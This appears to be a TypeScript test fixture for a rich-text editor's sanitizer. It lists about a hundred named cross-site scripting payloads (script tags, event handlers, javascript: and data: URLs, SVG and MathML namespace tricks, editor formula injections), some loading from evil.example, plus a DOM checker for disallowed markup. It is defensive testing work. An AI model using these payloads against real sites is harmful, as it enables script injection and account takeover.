import {
  mathAttributes,
  mathTags,
  richTextAttributes,
  richTextClass,
  richTextLink,
  richTextTags,
} from '@gvg/contracts/values/rich-text';

/** Action of the payloads. Pages under test check the flag. */
const act = 'window.hostile=1';

/**
 * Hostile markup for rich text: scripts, handlers, URLs, foreign frames, styles, MathML, SVG, and texts that become markup when parsed a
 * second time. Each must be harmless when it is saved, pasted and shown.
 */
export const hostileMarkup: readonly (readonly [name: string, html: string])[] = [
  // Scripts
  ['a script', `<p>a</p><script>${act}</script>`],
  ['a script of another host', '<script src="https://evil.example/a.js"></script>'],
  ['a script in capitals with a space', `<SCRIPT\n>${act}</SCRIPT\n>`],
  ['a script within a script', `<scr<script>ipt>${act}</scr</script>ipt>`],
  ['a script with a slash for a space', `<script/x>${act}</script>`],
  ['a script without an end', `<script>${act}//`],
  ['a script between angle brackets', `<<p>script>${act}<</p>/script>`],
  ['a module', `<script type="module">${act}</script>`],
  ['a noscript', `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`],
  ['a template', `<template><img src=x onerror=${act}></template>`],
  // Handlers
  ['a click handler', `<p onclick="${act}">a</p>`],
  ['an image with an error handler', `<img src=x onerror=${act}>`],
  ['an image with a slash for a space', `<img/src=x/onerror=${act}>`],
  ['an image without an end', `<img src=x onerror=${act} `],
  ['a handler in capitals', `<p ONMOUSEOVER="${act}">a</p>`],
  ['a handler after a quote', `<p title='"><img src=x onerror=${act}>'>x</p>`],
  ['a handler in backquotes', `<img src=\`x\` onerror=\`${act}\`>`],
  ['a focus handler', `<a href="#" tabindex="1" autofocus onfocus="${act}">a</a>`],
  ['an animation handler', `<p style="animation: a" onanimationstart="${act}">a</p>`],
  ['details that open', `<details open ontoggle="${act}"><summary>a</summary></details>`],
  ['a marquee', `<marquee onstart="${act}">a</marquee>`],
  ['a body', `<body onload="${act}" background="//evil.example/a.png">a</body>`],
  ['a video', `<video src=x onerror="${act}"><source src=x onerror="${act}"></video>`],
  [
    'a picture',
    '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/b.png"></picture>',
  ],
  ['a select with a handler', `<select autofocus onfocus="${act}"><option>a</option></select>`],
  // URLs
  ['a javascript: URL', `<a href="javascript:${act}">a</a>`],
  ['a javascript: URL in mixed case', `<a href="JaVaScRiPt:${act}">a</a>`],
  ['a javascript: URL with a line break', `<a href=" java\nscript:${act}">a</a>`],
  ['a javascript: URL with entities', `<a href="&#106;&#97;vascript:${act}">a</a>`],
  ['a javascript: URL with a named entity', `<a href="java&Tab;script:${act}">a</a>`],
  ['a javascript: URL after a control letter', `<a href="&#1;javascript:${act}">a</a>`],
  ['a javascript: URL in a new tab', `<a target="_blank" href="javascript:${act}">a</a>`],
  ['a vbscript: URL', `<a href="vbscript:${act}">a</a>`],
  ['a data: URL', `<a href="data:text/html,<script>${act}</script>">a</a>`],
  ['a blob: URL', '<a href="blob:https://evil.example/a">a</a>'],
  ['a protocol-relative URL', '<a href="//evil.example">a</a>'],
  ['a URL with a backslash', '<a href="/\\evil.example">a</a>'],
  ['a view-source: URL', '<a href="view-source:javascript:a">a</a>'],
  ['a form action', `<form action="javascript:${act}"><button>a</button></form>`],
  ['a button with a form action', `<button formaction="javascript:${act}">a</button>`],
  ['a form with fields', '<form action="/v1/users"><input name="a"><textarea></textarea></form>'],
  ['an image map', `<map name="m"><area href="javascript:${act}" shape="default"></map>`],
  // Frames and documents
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a script', `<iframe src="javascript:${act}"></iframe>`],
  ['a frame with a document', `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`],
  ['an object', `<object data="javascript:${act}"></object>`],
  ['an embedded file', '<embed src="https://evil.example/a.swf">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=javascript:${act}">`],
  ['a policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['a frame of Quill', `<iframe class="ql-video" src="https://evil.example"></iframe>`],
  // Styles
  ['a style element', '<style>*{display:none}</style><p>a</p>'],
  ['a style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">a</p>'],
  ['an expression', `<p style="width:expression(${act})">a</p>`],
  ['an import', '<style>@import url(https://evil.example/a.css)</style>'],
  ['a class of the application', '<p class="MuiModal-root gvg-header ql-tooltip">a</p>'],
  ['an id of the application', '<p id="root" name="body">a</p>'],
  ['a colour outside the palette', '<p><span class="ql-color-hotpink ql-bg-black">a</span></p>'],
  // SVG
  ['SVG with a script', `<svg><script>${act}</script></svg>`],
  ['SVG with a load handler', `<svg/onload=${act}>`],
  ['SVG that sets a link', `<svg><a><set attributeName=href to="javascript:${act}" /><text y=20>a</text></a></svg>`],
  ['SVG that animates', `<svg><animate onbegin=${act} attributeName=x dur=1s>`],
  ['SVG that uses another document', '<svg><use href="data:image/svg+xml,<svg id=x onload=hostile>#x"></use></svg>'],
  ['SVG with HTML in it', `<svg><foreignObject><img src=x onerror=${act}></foreignObject></svg>`],
  ['SVG with a style that ends', `<svg><style><p title="</style><img src=x onerror=${act}>">`],
  ['SVG with a title that ends', `<svg><title><p title="</title><img src=x onerror=${act}>">`],
  ['SVG with a description', `<svg><desc><table><img src=x onerror=${act}></table></desc></svg>`],
  // MathML
  ['a link on MathML', `<math href="javascript:${act}"><mi xlink:href="javascript:${act}">a</mi></math>`],
  [
    'an action of MathML',
    `<math><maction actiontype="statusline#${act}" xlink:href="javascript:${act}">a</maction></math>`,
  ],
  [
    'HTML in an annotation',
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${act}></annotation-xml></math>`,
  ],
  ['HTML in a text of MathML', `<math><mtext><img src=x onerror=${act}></mtext></math>`],
  [
    'a namespace that is left by a glyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  ],
  [
    'a form that changes the namespace',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}></style></mglyph></form>`,
  ],
  ['MathML with a style', '<math><mstyle style="position:fixed;inset:0"><mi>a</mi></mstyle></math>'],
  ['CDATA in MathML', `<math><mtext><![CDATA[<img src=x onerror=${act}>]]></mtext></math>`],
  [
    'a formula that closes its attribute',
    `<span class="ql-formula" data-value="&quot;><img src=x onerror=${act}>">a</span>`,
  ],
  ['a formula with a link', `<span class="ql-formula" data-value="\\href{javascript:${act}}{a}">a</span>`],
  [
    'a formula with HTML',
    `<span class="ql-formula" data-value="\\htmlData{a=b}{x}\\htmlStyle{position:fixed}{x}">a</span>`,
  ],
  ['a formula that is no TeX', '<span class="ql-formula" data-value="\\frac{a">a</span>'],
  ['a formula with markup in it', `<span class="ql-formula" data-value="a"><img src=x onerror=${act}></span>`],
  // Texts that become markup when parsed again
  ['a comment that ends in an attribute', `<!--<p title="--><img src=x onerror=${act}>">`],
  ['a comment that never ends', `<p>a</p><!-- <img src=x onerror=${act}>`],
  ['a comment with an exclamation mark', `<!--a--!><img src=x onerror=${act}>`],
  ['a processing instruction', `<?xml version="1.0"?><?a <img src=x onerror=${act}>?>`],
  ['a text area that ends', `<textarea><p title="</textarea><img src=x onerror=${act}>">`],
  ['an xmp that ends', `<xmp><p title="</xmp><img src=x onerror=${act}>">`],
  ['plain text', `<plaintext><img src=x onerror=${act}>`],
  ['entities that are decoded twice', `&amp;lt;img src=x onerror=${act}&amp;gt; &lt;img src=x onerror=${act}&gt;`],
  ['a NUL in a tag', `<im\u0000g src=x onerror=${act}><scr\u0000ipt>${act}</scr\u0000ipt>`],
  [
    'a table that moves its content',
    `<table><a href="javascript:${act}">a<tr><td onclick="${act}">b</td></tr></table>`,
  ],
  ['an unknown element', `<x-a onpointerenter="${act}" contenteditable>a</x-a>`],
  [
    'code of the editor with a handler',
    `<div class="ql-code-block-container" onscroll="${act}"><div class="ql-code-block" autofocus tabindex=1 onfocus="${act}">a</div></div>`,
  ],
  ['a list item with another type', `<ol><li data-list="checked" value="9" onclick="${act}">a</li></ol>`],
];

/** The contracts' rules as data that can be sent to a browser. */
export const richTextRules = {
  tags: [...richTextTags, ...mathTags] as string[],
  attributes: {
    ...Object.fromEntries(mathTags.map((tag) => [tag, [...mathAttributes]])),
    ...richTextAttributes,
  } as unknown as Record<string, string[]>,
  classPattern: richTextClass.source,
  linkPattern: richTextLink.source,
};

/** The used part of a DOM node, because services' tests are checked without browser types. */
interface MarkupNode {
  nodeType: number;
  nodeName: string;
  textContent: string | null;
  childNodes: Iterable<MarkupNode>;
}
interface MarkupElement extends MarkupNode {
  localName: string;
  attributes: Iterable<{ name: string; value: string }>;
}
declare const DOMParser: new () => {
  parseFromString(text: string, type: 'text/html'): { head: MarkupNode; body: MarkupNode };
};

/**
 * Returns what a browser finds in `html` that the contracts' rules do not allow; empty for harmless markup. Uses only the DOM and nothing
 * of this module, because tests also run it inside pages.
 */
export function foreignMarkup({ html, rules }: { html: string; rules: typeof richTextRules }): string[] {
  const document = new DOMParser().parseFromString(`<!doctype html><body><div>${html}</div>`, 'text/html');
  const isHidden = (node: MarkupNode) => node.nodeType === 8 || node.nodeType === 7;
  const found: string[] = [];
  const walk = (node: MarkupNode) => {
    if (isHidden(node)) found.push(`comment ${node.textContent ?? ''}`);
    if (node.nodeType === 1) {
      const element = node as MarkupElement;
      const tag = element.localName;
      if (!rules.tags.includes(tag)) found.push(`<${tag}>`);
      for (const { name, value } of element.attributes) {
        const isAllowed =
          name === 'class'
            ? value.split(/\s+/).every((each) => new RegExp(rules.classPattern).test(each))
            : (rules.attributes[tag] ?? []).includes(name);
        if (!isAllowed) found.push(`${tag} ${name}="${value}"`);
        if (name === 'href' && !new RegExp(rules.linkPattern, 'i').test(value)) found.push(`${tag} ${name}="${value}"`);
      }
    }
    for (const child of node.childNodes) walk(child);
  };
  const [content, ...outside] = document.body.childNodes;
  for (const child of content?.childNodes ?? []) walk(child);
  for (const node of [...document.head.childNodes, ...outside]) found.push(`outside: ${node.nodeName}`);
  return found;
}
